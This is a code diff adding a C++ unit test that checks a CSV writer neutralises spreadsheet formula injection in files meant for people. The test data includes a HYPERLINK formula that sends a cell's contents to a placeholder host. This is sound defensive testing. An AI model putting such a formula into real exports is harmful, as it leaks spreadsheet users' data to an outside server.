@@ -187,5 +187,25 @@ TEST(CsvWriter, WriteFailureIsAnIoErrorAndLeavesNoFile) {
   EXPECT_TRUE(DirEntries(dir.path()).empty());
 }
 
+// CSV injection (OWASP): files for people get an apostrophe before a value a
+// spreadsheet would run; the machine contract stays exact and counts them.
+TEST(CsvWriter, FilesForPeopleNeutraliseFormulasAndMachineFilesStayExact) {
+  const std::string link = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
+  std::vector<std::string_view> row = {link, "+84912345678", "-1+1", "@SUM(A1)", "\tx", "Nguyễn =A1", "", "12"};
+  std::string person, machine;
+  auto p = CsvWriter::ToString(&person, CsvAudience::kPerson);
+  auto m = CsvWriter::ToString(&machine);
+  ASSERT_TRUE(p->WriteRow(row).ok());
+  ASSERT_TRUE(m->WriteRow(row).ok());
+  EXPECT_EQ(person,
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'+84912345678,'-1+1,'@SUM(A1),"
+            "'\tx,Nguyễn =A1,,12\n");
+  EXPECT_EQ(machine,
+            "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",+84912345678,-1+1,@SUM(A1),"
+            "\"\tx\",Nguyễn =A1,,12\n");
+  EXPECT_EQ(p->formula_fields(), 5);
+  EXPECT_EQ(m->formula_fields(), 5);
+}
+
 }  // namespace
 }  // namespace cardex
